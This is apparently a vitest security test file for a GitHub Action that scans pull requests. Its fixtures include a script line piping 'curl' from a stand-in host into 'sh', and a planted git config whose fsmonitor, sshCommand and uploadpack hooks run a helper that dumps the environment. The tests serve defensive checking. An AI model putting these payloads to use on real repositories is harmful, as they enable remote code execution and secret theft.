import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { delimiter, join } from 'node:path';
import { expect, it } from 'vitest';
import { findProgram } from '../../src/clients/programs.ts';
import { temporaryFolder, writeFiles } from '../repository.ts';
import { checkout, pullRequest } from './checkout.ts';
import { runAction } from './runner.ts';

const script = '#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n';

/** A tracked bare repository whose settings start a program that leaves a mark. */
function trapped(): { files: Record<string, Buffer | string>; marker: string } {
  const folder = temporaryFolder();
  const marker = join(folder, 'ran');
  const helper = join(folder, 'helper');
  writeFiles(folder, { 'helper*': `#!/bin/sh\nenv >> ${marker}\n` });
  const config = `[remote "origin"]\n\turl = ssh://host.invalid/x\n\tuploadpack = ${helper}\n\tpromisor = true\n[core]\n\tsshCommand = ${helper}\n\tfsmonitor = ${helper}\n[extensions]\n\tpartialClone = origin\n`;
  return {
    marker,
    files: { HEAD: 'ref: refs/heads/main\n', config, 'refs/keep': '', 'objects/keep': '' },
  };
}

function below(folder: string, files: Record<string, Buffer | string>): Record<string, Buffer | string> {
  return Object.fromEntries(Object.entries(files).map(([name, content]) => [`${folder}/${name}`, content]));
}

it.each([
  ['the root', ''],
  ['a working directory', 'services/api'],
])('a git directory that the change brings starts nothing, and hides nothing: %s', async (_, folder) => {
  const { files, marker } = trapped();
  const { remote, merge, payload } = pullRequest(
    { 'services/api/README.md': 'x\n', 'README.md': 'x\n' },
    { 'services/api/deploy.sh*': script, ...below('services/api', files) },
    { 'other.txt': 'x' },
  );
  for (const offline of ['false', 'true']) {
    const run = await runAction({
      action: 'unpinned-dependencies',
      workspace: await checkout(remote, merge),
      event: 'pull_request',
      payload,
      sha: merge,
      inputs: { 'working-directory': folder, token: 'secret-token', offline },
      environment: { GITHUB_API_URL: 'http://127.0.0.1:9' },
    });
    expect([offline, run.outputs.findings]).not.toEqual([offline, '[]']);
    expect(run.outputs.conclusion).toBe('failure');
  }
  expect(existsSync(marker)).toBe(false);
});

it('gives git neither the token nor the inputs', async () => {
  const { remote, merge, payload } = pullRequest({ 'a.txt': '1' }, { 'b.sh*': script }, { 'c.txt': '1' });
  const folder = temporaryFolder();
  const dump = join(folder, 'seen');
  writeFileSync(join(folder, 'git'), `#!/bin/sh\nenv >> ${dump}\nexec ${findProgram('git', null)} "$@"\n`);
  chmodSync(join(folder, 'git'), 0o755);
  await runAction({
    action: 'premortem',
    workspace: await checkout(remote, merge),
    event: 'pull_request',
    payload,
    sha: merge,
    inputs: { token: 'secret-token' },
    environment: {
      PATH: `${folder}${delimiter}${process.env.PATH}`,
      GITHUB_API_URL: 'http://127.0.0.1:9',
      ACTIONS_RUNTIME_TOKEN: 'secret-runtime',
      GITHUB_TOKEN: 'secret-environment',
    },
  });
  const seen = readFileSync(dump, 'utf8');
  expect(seen).toContain('GIT_ALLOW_PROTOCOL=https');
  expect(seen).not.toMatch(/secret|^INPUT_/m);
});

it.each(['ls-files', 'diff-files'])('a git that fails at %s is no red job and no clean one', async (word) => {
  const { remote, merge, payload } = pullRequest({ 'a.txt': '1' }, { 'b.sh*': script });
  const folder = temporaryFolder();
  writeFiles(folder, {
    'git*': `#!/bin/sh\nfor w in "$@"; do [ "$w" = ${word} ] && exit 128; done\nexec ${findProgram('git', null)} "$@"\n`,
  });
  const run = await runAction({
    action: 'premortem',
    workspace: await checkout(remote, merge),
    event: 'pull_request',
    payload,
    sha: merge,
    environment: { PATH: `${folder}${delimiter}${process.env.PATH}` },
  });
  expect([run.status, run.outputs.conclusion]).toEqual([0, 'skipped']);
  expect(run.log).toContain('Git could not');
});
